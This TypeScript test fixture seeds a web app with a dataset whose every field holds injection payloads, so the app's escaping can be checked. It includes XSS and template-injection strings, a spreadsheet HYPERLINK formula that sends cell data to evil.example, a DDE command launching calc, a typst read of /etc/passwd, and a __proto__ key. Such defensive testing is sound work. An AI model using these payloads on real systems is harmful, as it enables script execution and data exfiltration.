import type { ImportView } from "@/lib/core/report/views";
import type { MemberRole } from "@/lib/core/scope";
import { parseSpec, runAudit } from "@/lib/server/audits";
import { acceptAsNew, makeInvitation } from "@/lib/server/invitations";
import { database } from "@/lib/store/database";
import { ensureDataset } from "@/lib/store/datasets";
import { oneSplitModel } from "../../support/one-split-model";
import { datasetWith } from "../datasets";
import type { PersonName } from "../people";
import { type Answer, ask } from "./ask";
import { objectsOf } from "./objects";

/** A dataset whose every text attacks whoever shows it: browsers, spreadsheets, the PDF and the code itself. */

export const HOSTILE = "security-hostile";

const RUN = "globalThis.attacked=true";
export const ATTACKS = {
  image: `<img src=x onerror="${RUN}">`,
  script: `"'></title></style></textarea><script>${RUN}</script>`,
  svg: `<svg/onload=${RUN}>`,
  link: `javascript:${RUN}`,
  template: `{{constructor.constructor('${RUN}')()}}\${${RUN}}`,
  formula: `=HYPERLINK("https://evil.example?"&A1,"x")`,
  command: "@SUM(1+9)*cmd|' /C calc'!A0",
  typst: '#read("/etc/passwd") #panic("x") $x$ *b* \\',
  prototype: "__proto__",
} as const;
const { image, script, svg, link, template, formula, command, typst, prototype } = ATTACKS;

const WRITERS = 40;
const cell = (text: string | number): string => `"${String(text).replaceAll('"', '""')}"`;
const csv = (header: readonly string[], rows: readonly (readonly (string | number)[])[]): string =>
  [header, ...rows].map((cells) => cells.map(cell).join(",")).join("\n");
const each = <T>(count: number, make: (index: number) => T): T[] =>
  Array.from({ length: count }, (_, i) => make(i));

/** Attributes and the two groups of each. */
const GROUPS: readonly (readonly [attribute: string, groups: readonly [string, string]])[] = [
  [svg, [image, formula]],
  ["properties", [prototype, "toString"]],
  ["group", [command, typst]],
];
const ATTRIBUTES = GROUPS.map(([attribute]) => attribute);

const files = {
  writers: csv(
    ["writer", "name", ...ATTRIBUTES],
    each(WRITERS, (w) => [
      `w${w}`,
      [image, script, typst, formula][w % 4] ?? "",
      ...GROUPS.map(([, pair]) => pair[w % 2] ?? ""),
    ]),
  ),
  stories: csv(
    ["story", "writer", "title", "topic"],
    each(WRITERS, (s) => [
      `s${s}`,
      `w${s}`,
      [script, svg, link, template][s % 4] ?? "",
      [image, typst][s % 2] ?? "",
    ]),
  ),
  impressions: csv(
    ["request", "position", "story", "surface", "shown_at", "reader"],
    each(400, (n) => [
      `r${Math.floor(n / 10)}`,
      (n % 10) + 1,
      `s${(n * 7) % WRITERS}`,
      [script, formula][Math.floor(n / 10) % 2] ?? "",
      "2026-10-01T08:00:00Z",
      `reader ${n % 17}`,
    ]),
  ),
  predictions: csv(
    ["request", "story", "score", "a", prototype],
    each(400, (n) => [`r${Math.floor(n / 10)}`, `s${(n * 7) % WRITERS}`, n % 2 ? 1.5 : -0.5, n % 2, 0]),
  ),
};

const FEATURES = [image, prototype] as const;

const MAPPING = {
  model: { name: script },
  writers: {
    writer: "writer",
    name: "name",
    attributes: Object.fromEntries(ATTRIBUTES.map((name) => [name, name])),
  },
  predictions: {
    request: "request",
    story: "story",
    score: "score",
    features: { [FEATURES[0]]: "a", [FEATURES[1]]: "b" },
  },
};

const upload = (
  slug: string,
  kind: string,
  file: string,
  body: string,
  mapping: object = {},
): Promise<Answer> => {
  const query = new URLSearchParams({ kind, file, mapping: JSON.stringify(mapping) });
  return ask({ method: "POST", path: `/api/${slug}/imports?${query}`, as: "engineer", body });
};

/** Every role has somebody here. */
const MEMBERS: readonly (readonly [PersonName, MemberRole, string?])[] = [
  ["engineer", "engineer"],
  ["auditor", "auditor"],
  ["leadership", "leadership"],
  ["administrator", "administrator"],
  ["writer", "writer", "w0"],
];

type HostileObjects = Awaited<ReturnType<typeof objectsOf>>;

/** Makes the dataset, through the API wherever it has a route for it, and audits it; gives an object of every kind. */
export async function hostileDataset(): Promise<HostileObjects> {
  await ensureDataset(HOSTILE, `${image} ${typst}`);
  for (const [person, role] of MEMBERS.slice(0, 1)) await datasetWith(HOSTILE, person, role);
  const audits = await database().prisma.audit.count({
    where: { dataset: { slug: HOSTILE }, state: "done" },
  });
  if (audits === 0) await fill();
  const objects = await objectsOf(HOSTILE);
  const { id } = await database().prisma.importBatch.findFirstOrThrow({
    where: { dataset: { slug: HOSTILE }, rejected: { gt: 0 } },
  });
  return { ...objects, batch: id };
}

async function fill(): Promise<void> {
  const sent = [
    await upload(HOSTILE, "writers", `${image}.csv`, files.writers, MAPPING),
    await upload(HOSTILE, "stories", `${script}.csv`, files.stories),
    await upload(HOSTILE, "impressions", `${formula}.csv`, files.impressions),
    await upload(HOSTILE, "model", `${svg}.json`, oneSplitModel(...FEATURES), MAPPING),
    await upload(HOSTILE, "predictions", `${typst}.csv`, files.predictions, MAPPING),
    await upload(HOSTILE, "impressions", "rejects.csv", REJECTS),
  ];
  for (const { status, text } of sent) if (status !== 200) throw new Error(`${status}: ${text}`);
  for (const [person, role, writer] of MEMBERS.slice(1)) await datasetWith(HOSTILE, person, role, writer);
  const scope = await datasetWith(HOSTILE, "engineer", "engineer");
  await runAudit(scope, parseSpec({ attributes: ATTRIBUTES, permutations: 199 }));
  const { token } = await makeInvitation(scope, { email: "hostile@security.example", role: "leadership" });
  await acceptAsNew(token, { name: `${image}${script}`, password: "a long password of a name" });
  const made = [
    await ask({
      method: "POST",
      path: `/api/${HOSTILE}/tokens`,
      as: "engineer",
      json: { name: script, days: 1 },
    }),
    await ask({
      method: "POST",
      path: `/api/${HOSTILE}/requests`,
      as: "auditor",
      json: { writer: "w1", reason: `${image} ${script} ${template}` },
    }),
    await ask({
      method: "POST",
      path: `/api/${HOSTILE}/about-me`,
      as: "writer",
      json: { attribute: svg, value: image, consent: 1 },
    }),
  ];
  for (const { status, text } of made) if (status >= 300) throw new Error(`${status}: ${text}`);
}

/** What a spreadsheet would run, tab and line break in front included. */
export const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  formula,
  command,
  image,
] as const;

/** Positions that are none. */
const REJECTS = csv(
  ["request", "position", "story", "surface", "shown_at"],
  FORMULAS.map((text, n) => [`x${n}`, text, "s0", "home", "2026-10-01T08:00:00Z"]),
);

const NAMES = "security-names";

/** Sends a file and gives what the import is called afterwards. */
export async function importNamed(
  file: string,
): Promise<{ readonly status: number; readonly fileName: unknown }> {
  await datasetWith(NAMES, "engineer", "engineer");
  const { status, text } = await upload(NAMES, "writers", file, "writer\nw1\n");
  return { status, fileName: (JSON.parse(text) as ImportView).fileName };
}
